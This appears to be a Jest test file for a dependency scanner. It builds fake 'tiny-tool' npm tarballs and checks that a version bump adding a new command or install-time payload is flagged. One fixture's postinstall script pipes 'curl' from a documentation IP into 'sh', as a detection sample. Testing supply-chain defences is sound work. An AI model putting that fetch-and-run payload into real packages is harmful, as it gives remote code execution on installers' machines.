import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  sriSha512,
  startFixtureRegistries,
  type FixtureRegistries,
} from '../src/demo/registries.js';
import { buildTarGz } from '../src/demo/tarball.js';
import { scanChanges, type ChangeSource } from '../src/run.js';

// A bump of an old, trusted package: what the previous version already shipped is shown but does
// not gate; what this release adds (a new command, a new install-time payload) is called out.
async function tinyTool(version: string, extra: { bin?: boolean; payload?: boolean }) {
  const manifest = {
    name: 'tiny-tool',
    version,
    main: 'index.js',
    scripts: { postinstall: 'node install.js' },
    ...(extra.bin ? { bin: { 'tiny-tool-extra': 'cli.js' } } : {}),
  };
  const install = extra.payload
    ? `const { execSync } = require('child_process');\nexecSync('curl -s http://203.0.113.9/p.sh | sh');\n`
    : `console.log('thanks for installing tiny-tool');\n`;
  return buildTarGz([
    { path: 'package/package.json', content: JSON.stringify(manifest) },
    { path: 'package/index.js', content: 'module.exports = () => 1;\n' },
    { path: 'package/install.js', content: install },
    ...(extra.bin
      ? [{ path: 'package/cli.js', content: '#!/usr/bin/env node\nconsole.log(1);\n' }]
      : []),
  ]);
}

function lock(version: string, integrity: string): string {
  return JSON.stringify({
    name: 'app',
    lockfileVersion: 3,
    packages: { '': { name: 'app' }, 'node_modules/tiny-tool': { version, integrity } },
  });
}

describe('a bump compared with the previous version', () => {
  let registries: FixtureRegistries;
  const tarballs = new Map<string, Uint8Array>();

  beforeAll(async () => {
    tarballs.set('1.0.0', await tinyTool('1.0.0', {}));
    tarballs.set('1.1.0', await tinyTool('1.1.0', { bin: true }));
    tarballs.set('1.2.0', await tinyTool('1.2.0', { payload: true }));
    registries = await startFixtureRegistries(
      [...tarballs].map(([version, tarball]) => ({ name: 'tiny-tool', version, tarball })),
      [],
    );
  });
  afterAll(() => registries.close());

  const scan = (from: string, to: string) => {
    const source: ChangeSource = {
      listChangedFiles: async () => [{ path: 'package-lock.json', status: 'modified' }],
      readFile: async (_path, side) => {
        const version = side === 'base' ? from : to;
        return lock(version, sriSha512(tarballs.get(version)!));
      },
    };
    return scanChanges(source, {
      failOn: 'medium',
      registry: { npmRegistry: registries.npmUrl, pypiUrl: registries.pypiUrl, retries: 0 },
    });
  };

  it('marks what the previous version already had and raises a command the bump adds', async () => {
    const report = await scan('1.0.0', '1.1.0');
    const pkg = report.packages[0]!;
    const installScript = pkg.findings.filter((f) => f.rule === 'npm-install-script');
    expect(installScript.length).toBeGreaterThan(0);
    expect(installScript.every((f) => f.alreadyIn === '1.0.0')).toBe(true);
    const added = pkg.findings.filter((f) => f.rule === 'entrypoint-new-command');
    expect(added).toEqual([
      expect.objectContaining({
        severity: 'medium',
        evidence: expect.stringContaining('tiny-tool-extra'),
      }),
    ]);
    expect(added[0]?.alreadyIn).toBeUndefined();
    expect(pkg.verdict).toBe('fail'); // fail-on medium: the new command gates, the old script does not
  });

  it('gates on an install-time payload that is new in this release', async () => {
    const report = await scan('1.0.0', '1.2.0');
    const pkg = report.packages[0]!;
    const gating = pkg.findings.filter(
      (f) => f.alreadyIn === undefined && (f.severity === 'high' || f.severity === 'critical'),
    );
    expect(gating.length).toBeGreaterThan(0);
    expect(pkg.verdict).toBe('fail');
  });
});
